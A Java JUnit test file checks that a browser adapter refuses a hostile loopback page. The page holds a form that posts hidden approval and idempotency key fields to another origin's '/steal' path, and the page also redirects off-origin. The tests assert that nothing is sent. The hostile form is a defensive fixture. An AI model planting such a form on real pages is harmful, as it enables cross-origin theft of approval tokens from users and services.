package dev.ratchet.browser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.ratchet.adapter.ApprovalBinding;
import dev.ratchet.adapter.WriteIntent;
import dev.ratchet.error.ErrorCode;
import dev.ratchet.error.RatchetException;
import dev.ratchet.json.JsonObject;
import dev.ratchet.store.Fence;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * A hostile site on loopback: its form posts to another origin, its page redirects off-origin. The
 * adapter refuses with {@code PERMISSION} and the other origin never receives a request; the
 * hostile site itself never receives a POST.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostilePageTest {
  private HttpServer site;
  private HttpServer elsewhere;
  private final List<String> siteRequests = new CopyOnWriteArrayList<>();
  private final List<String> elsewhereRequests = new CopyOnWriteArrayList<>();
  private BrowserAdapter adapter;

  @BeforeAll
  void start() throws IOException {
    elsewhere =
        server(
            ex -> {
              elsewhereRequests.add(ex.getRequestMethod() + " " + ex.getRequestURI());
              reply(ex, 200, "text/html", "<p>got it</p>");
            });
    String other = "http://127.0.0.1:" + elsewhere.getAddress().getPort();
    site =
        server(
            ex -> {
              String path = ex.getRequestURI().getPath();
              siteRequests.add(ex.getRequestMethod() + " " + path);
              if (path.startsWith("/v1/receipts/")) {
                reply(
                    ex, 404, "application/json", "{\"error\":\"not_found\",\"message\":\"none\"}");
              } else if (path.equals("/web/evil")) {
                reply(
                    ex,
                    200,
                    "text/html",
                    "<form id='order' method='post' action='"
                        + other
                        + "/steal'><input name='sku'>"
                        + keyFields()
                        + "<button id='place-order'>Go</button></form>");
              } else if (path.equals("/web/redirect")) {
                ex.getResponseHeaders().set("Location", other + "/landing");
                reply(ex, 302, "text/plain", "");
              } else {
                reply(ex, 404, "text/plain", "no");
              }
            });
    adapter =
        BrowserAdapter.builder(URI.create("http://127.0.0.1:" + site.getAddress().getPort()))
            .pathPrefix("/web/")
            .form(new PageForm("order", "place-order", true))
            .clientSecret("hostile-test-secret-0123456789abcdef")
            .build();
  }

  @AfterAll
  void stop() {
    adapter.close();
    site.stop(0);
    elsewhere.stop(0);
  }

  @Test
  void aFormPostingToAnotherOriginIsRefusedBeforeAnythingIsSent() {
    WriteIntent w =
        new WriteIntent(
            BrowserAdapter.NAMESPACE,
            "fill_and_submit",
            JsonObject.builder()
                .put("path", "/web/evil")
                .put("form", "order")
                .put("fields", JsonObject.builder().put("sku", "x").build())
                .build(),
            "irreversible_write");
    assertThatThrownBy(
            () -> adapter.execute(w, "key-h1", new Fence("run-h", "w", 1), ApprovalBinding.NONE))
        .isInstanceOfSatisfying(
            RatchetException.class,
            e -> {
              assertThat(e.code()).isEqualTo(ErrorCode.PERMISSION);
              assertThat(e.getMessage()).contains("nothing was sent");
            });
    assertThat(elsewhereRequests).isEmpty();
    assertThat(siteRequests).noneMatch(r -> r.startsWith("POST"));
  }

  @Test
  void aRedirectOffOriginIsRefusedAndNeverReachesTheOtherOrigin() {
    JsonObject args = JsonObject.builder().put("path", "/web/redirect").build();
    assertThatThrownBy(() -> adapter.read("open_page", args, new Fence("run-h", "w", 1)))
        .isInstanceOfSatisfying(
            RatchetException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.PERMISSION));
    assertThat(elsewhereRequests).isEmpty();
  }

  private static String keyFields() {
    StringBuilder b = new StringBuilder();
    for (String f :
        List.of(
            "idempotency_key",
            "intent_digest",
            "fence_run",
            "fence_version",
            "approval_fingerprint",
            "approval_expires_at")) {
      b.append("<input type='hidden' name='").append(f).append("'>");
    }
    return b.toString();
  }

  private static HttpServer server(com.sun.net.httpserver.HttpHandler h) throws IOException {
    HttpServer s = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 8);
    s.createContext("/", h);
    s.start();
    return s;
  }

  private static void reply(HttpExchange ex, int status, String type, String body)
      throws IOException {
    byte[] b = body.getBytes(StandardCharsets.UTF_8);
    ex.getResponseHeaders().set("Content-Type", type);
    ex.sendResponseHeaders(status, b.length == 0 ? -1 : b.length);
    if (b.length > 0) {
      ex.getResponseBody().write(b);
    }
    ex.close();
  }
}
